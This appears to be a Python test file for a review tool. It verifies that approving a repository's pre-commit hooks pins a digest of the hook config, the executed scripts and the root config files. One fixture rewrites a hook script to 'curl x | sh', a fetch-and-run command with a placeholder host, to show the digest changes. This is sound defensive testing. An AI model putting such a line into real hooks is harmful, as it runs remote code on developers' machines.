"""What an approval of a repository's project hooks pins (review.project_hooks.pin), read from a
real commit's tree: the configuration, every file a local hook executes and the root's
configuration files, one digest that any change to them changes; nothing for a tree that
declares no hooks."""

from __future__ import annotations

from landwatch.review.change import open_repository, resolve
from landwatch.review.project_hooks.pin import HooksPinned, pin_hooks
from support.repos import Repo

CONFIG = """repos:
  - repo: local
    hooks:
      - id: shell-check
        name: shell check
        entry: scripts/check.sh
        language: script
"""


def pinned(repo: Repo) -> HooksPinned | None:
    git = open_repository(repo.git_dir)
    return pin_hooks(git, resolve(git, "HEAD").tree)


def test_the_configuration_and_what_a_local_hook_executes_are_pinned(repo: Repo) -> None:
    repo.land(
        "hooks",
        {
            ".pre-commit-config.yaml": CONFIG,
            "scripts/check.sh": "#!/bin/sh\nexit 0\n",
            "pyproject.toml": "[tool.ruff]\nline-length = 100\n",
            "app.py": "x = 1\n",
        },
        hooks=False,
    )
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert {".pre-commit-config.yaml", "scripts/check.sh", "pyproject.toml"} <= set(by_path)
    assert "app.py" not in by_path
    assert by_path["scripts/check.sh"].why == "executed by a hook"
    assert first.given()["scripts/check.sh"] == b"#!/bin/sh\nexit 0\n"
    assert any("scripts/check.sh" in line for line in first.commands())
    repo.land("unrelated", {"app.py": "x = 2\n"}, hooks=False)
    unchanged = pinned(repo)
    assert unchanged is not None and unchanged.digest == first.digest
    repo.land("the script changes", {"scripts/check.sh": "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


def test_a_tree_that_declares_no_hooks_pins_nothing(repo: Repo) -> None:
    repo.land("plain", {"app.py": "x = 1\n", "pyproject.toml": "[tool.ruff]\n"}, hooks=False)
    assert pinned(repo) is None
